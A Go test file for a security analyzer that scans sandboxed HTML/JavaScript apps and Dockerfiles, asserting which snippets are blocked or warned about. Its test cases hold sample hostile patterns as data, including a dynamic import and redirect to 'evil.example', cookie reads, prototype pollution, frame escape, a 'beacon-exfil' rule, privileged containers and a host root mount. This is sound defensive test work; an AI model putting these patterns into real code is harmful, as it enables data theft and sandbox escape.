package analyzer

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestAnalyze_BlocksEval(t *testing.T) {
	t.Parallel()

	report := Analyze(`<script>eval("x")</script>`)

	assert.False(t, report.Passed)
	assert.GreaterOrEqual(t, report.CriticalCount, 1)

	found := false
	for _, f := range report.Findings {
		if f.Rule == "eval-call" {
			found = true
			assert.Equal(t, SeverityCritical, f.Severity)
			assert.Equal(t, 1, f.Line)
		}
	}
	assert.True(t, found, "expected an eval-call finding")
}

func TestAnalyze_CleanCodePasses(t *testing.T) {
	t.Parallel()

	code := `<!-- capabilities: ui:window, storage:local -->
<!DOCTYPE html>
<html>
<body>
<h1>Counter</h1>
<button id="inc">+1</button>
<script>
let count = 0;
document.getElementById("inc").addEventListener("click", () => {
  count++;
  document.title = String(count);
});
</script>
</body>
</html>`

	report := Analyze(code)
	assert.True(t, report.Passed)
	assert.Zero(t, report.CriticalCount)
}

func TestAnalyze_CriticalRules(t *testing.T) {
	t.Parallel()

	cases := []struct {
		name string
		code string
		rule string
	}{
		{"function constructor", `const f = new Function("return 1")`, "function-constructor"},
		{"indirect eval", `(0,eval)("x")`, "indirect-eval"},
		{"dynamic import", `import("https://evil.example/mod.js")`, "dynamic-import"},
		{"parent access", `window.parent.postMessage("hi", "*")`, "frame-escape"},
		{"cookie", `const c = document.cookie`, "cookie-access"},
		{"string timer", `setTimeout("doEvil()", 10)`, "string-timer"},
		{"proto pollution", `obj.__proto__.polluted = true`, "prototype-pollution"},
		{"global override", `window.fetch = mine`, "global-override"},
		{"document write", `document.write("<script>")`, "document-write"},
		{"blob url", `URL.createObjectURL(blob)`, "blob-url"},
		{"shared array buffer", `new SharedArrayBuffer(64)`, "shared-array-buffer"},
		{"webrtc", `new RTCPeerConnection()`, "webrtc"},
		{"import scripts", `importScripts("w.js")`, "import-scripts"},
		{"location redirect", `location.href = "https://evil.example"`, "location-redirect"},
		{"wildcard postmessage", `frame.postMessage(data, "*")`, "postmessage-wildcard"},
		{"service worker", `navigator.serviceWorker.register("/sw.js")`, "service-worker"},
		{"iframe injection", `document.createElement("iframe")`, "iframe-injection"},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()

			report := Analyze(tc.code)
			require.False(t, report.Passed, "expected %q to be blocked", tc.code)

			rules := make(map[string]bool)
			for _, f := range report.Findings {
				rules[f.Rule] = true
			}
			assert.True(t, rules[tc.rule], "expected rule %s, got %v", tc.rule, rules)
		})
	}
}

func TestAnalyze_WarningsDoNotBlock(t *testing.T) {
	t.Parallel()

	cases := []struct {
		name string
		code string
		rule string
	}{
		{"fetch", `fetch("https://api.example/data")`, "network-primitive"},
		{"atob", `const raw = atob(payload)`, "encoded-payload"},
		{"mutation observer", `new MutationObserver(cb)`, "mutation-observer"},
		{"innerHTML", `el.innerHTML = html`, "inner-html"},
		{"remote css", `@import url(https://cdn.example/style.css);`, "css-remote"},
		{"beacon", `navigator.sendBeacon("https://x.example", data)`, "beacon-exfil"},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()

			report := Analyze(tc.code)
			assert.True(t, report.Passed, "warnings must not block")
			assert.GreaterOrEqual(t, report.WarningCount, 1)
		})
	}
}

func TestAnalyze_ExemptsCapabilityCommentAndSDKMarker(t *testing.T) {
	t.Parallel()

	// "fetch" in the capabilities line and the SDK line must not fire rules.
	code := "<!-- capabilities: ui:window, network:http -->\n" +
		"<script data-origin=\"llmos-sdk\">fetch('http://kernel.local')</script>\n" +
		"<p>hello</p>"

	report := Analyze(code)
	assert.True(t, report.Passed)
	assert.Zero(t, report.WarningCount)
}

func TestAnalyze_SVGInlineScriptSpansLines(t *testing.T) {
	t.Parallel()

	code := "<svg viewBox=\"0 0 1 1\">\n  <script>alert(1)</script>\n</svg>"
	report := Analyze(code)

	assert.False(t, report.Passed)
	found := false
	for _, f := range report.Findings {
		if f.Rule == "svg-script" {
			found = true
		}
	}
	assert.True(t, found)
}

func TestAnalyze_Deterministic(t *testing.T) {
	t.Parallel()

	code := `eval("a"); fetch("https://x.example"); eval("b")`
	first := Analyze(code)
	for range 10 {
		assert.Equal(t, first, Analyze(code))
	}
}

func TestAnalyzeDockerfile_RejectsPrivileged(t *testing.T) {
	t.Parallel()

	recipe := `# capabilities: process:background
FROM alpine:3.20
RUN echo "docker run --privileged me" > /start.sh`

	report := AnalyzeDockerfile(recipe)
	assert.False(t, report.Passed)
}

func TestAnalyzeDockerfile_IgnoresComments(t *testing.T) {
	t.Parallel()

	recipe := `# capabilities: process:background
# do not use --privileged here
FROM alpine:3.20
CMD ["/bin/sh"]`

	report := AnalyzeDockerfile(recipe)
	assert.True(t, report.Passed)
	assert.Zero(t, report.CriticalCount)
}

func TestAnalyzeDockerfile_WarnsOnLatest(t *testing.T) {
	t.Parallel()

	for _, from := range []string{"FROM ubuntu:latest", "FROM ubuntu"} {
		report := AnalyzeDockerfile(from + "\nCMD [\"true\"]")
		assert.True(t, report.Passed, from)
		assert.Equal(t, 1, report.WarningCount, from)
	}

	pinned := AnalyzeDockerfile("FROM ubuntu:24.04\nCMD [\"true\"]")
	assert.Zero(t, pinned.WarningCount)
}

func TestAnalyzeDockerfile_RejectsHostMounts(t *testing.T) {
	t.Parallel()

	report := AnalyzeDockerfile(`FROM alpine:3.20
LABEL run="-v /:/host"`)
	assert.False(t, report.Passed)
}
